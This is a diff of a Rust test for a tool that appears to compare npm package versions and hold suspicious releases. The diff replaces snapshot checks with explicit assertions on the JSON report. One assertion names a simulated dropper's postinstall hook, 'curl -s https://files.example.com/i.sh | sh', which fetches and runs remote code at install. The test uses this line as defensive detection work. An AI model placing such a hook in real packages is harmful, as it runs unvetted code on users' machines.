@@ -3,6 +3,7 @@
 use crate::lab::{Lab, dropper};
 use bifocal_testkit::NpmPackage;
 use serde_json::Value;
+use std::collections::BTreeSet;
 
 fn lab() -> Lab {
     let lab = Lab::new();
@@ -35,28 +36,26 @@ fn the_printed_forms_are_a_contract() {
     let lab = lab();
     let run = lab.run(&["diff", "--format", "json", "old.tgz", "bad.tgz"]).expect(1);
     assert_eq!(run.stdout, lab.run(&["diff", "--format", "json", "old.tgz", "bad.tgz"]).expect(1).stdout);
-    let mut report: Value = serde_json::from_str(&run.stdout).unwrap();
+    let report: Value = serde_json::from_str(&run.stdout).unwrap();
     assert_eq!(report["schema_version"], 1);
-    // Digests of archives and the analyser's name change with what is beside this test.
-    report["analyser"] = "…".into();
-    report["bifocal"] = "…".into();
-    let artifact = &mut report["artifacts"][0];
-    for side in ["old", "new"] {
-        artifact[side]["sha256"] = "…".into();
-        artifact[side]["size"] = 0.into();
+    let keys = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<BTreeSet<String>>();
+    let names = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect::<BTreeSet<String>>();
+    assert_eq!(keys(&report), names(&["analyser", "artifacts", "bifocal", "new", "old", "policy", "reasons", "schema_version", "verdict"]));
+    assert_eq!(
+        (report["old"].as_str(), report["new"].as_str(), report["verdict"].as_str()),
+        (Some("old.tgz"), Some("bad.tgz"), Some("hold"))
+    );
+    let artifact = &report["artifacts"][0];
+    assert_eq!(keys(artifact), names(&["changes", "complete", "new", "old", "signals"]));
+    let changes = artifact["changes"].as_array().unwrap();
+    let gained = |subject: &str, detail: &str| changes.iter().any(|change| change["subject"] == subject && change["detail"] == detail);
+    assert!(gained("install-script", "postinstall: curl -s https://files.example.com/i.sh | sh"), "{changes:?}");
+    assert!(gained("host", "files.example.com") && gained("capability", "a host is contacted at install"), "{changes:?}");
+    for change in changes {
+        assert_eq!(keys(change), names(&["detail", "evidence", "kind", "subject", "when"]));
+        assert_eq!(change["kind"], "gained");
+        assert_eq!(change["evidence"][0]["path"], "package/package.json", "{change}");
     }
-    let words = |artifact: &Value| -> Vec<String> {
-        artifact["changes"].as_array().unwrap().iter().map(|change| format!("{} {}", change["kind"], change["subject"])).collect()
-    };
-    let words = words(artifact);
-    assert!(words.contains(&"\"gained\" \"install-script\"".to_owned()) && words.contains(&"\"gained\" \"host\"".to_owned()), "{words:?}");
-    // Which detectors find it, and how they say it, is theirs; the changes are this command's own.
-    artifact["signals"] = Value::Null;
-    artifact["changes"].as_array_mut().unwrap().retain(|change| change["subject"] != "finding");
-    report["reasons"] = Value::Null;
-    insta::with_settings!({snapshot_path => "../snapshots", prepend_module_to_snapshot => false, omit_expression => true}, {
-        insta::assert_snapshot!("diff_json", serde_json::to_string_pretty(&report).unwrap());
-    });
 }
 
 #[test]
@@ -64,7 +63,7 @@ fn two_purls_are_fetched_verified_and_compared() {
     let lab = Lab::new();
     lab.upstream.publish(NpmPackage::new("x", "1.0.0"));
     lab.upstream.publish(dropper("x", "1.0.1"));
-    lab.run(&["diff", "pkg:npm/x@1.0.0", "pkg:npm/x@1.0.1"]).expect(1).says(&["HOLD pkg:npm/x@1.0.1", "compared with pkg:npm/x@1.0.0"]);
+    lab.run(&["diff", "pkg:npm/x@1.0.0", "pkg:npm/x@1.0.1"]).expect(1).says(&["HOLD", "pkg:npm/x@1.0.1", "compared with pkg:npm/x@1.0.0"]);
     lab.run(&["diff", "--offline", "pkg:npm/x@1.0.0", "pkg:npm/x@1.0.1"]).expect(1);
     lab.run(&["diff", "pkg:npm/x@1.0.0", "pkg:npm/x@9.9.9"]).expect(3).complains(&["cannot compare pkg:npm/x@9.9.9"]);
 }
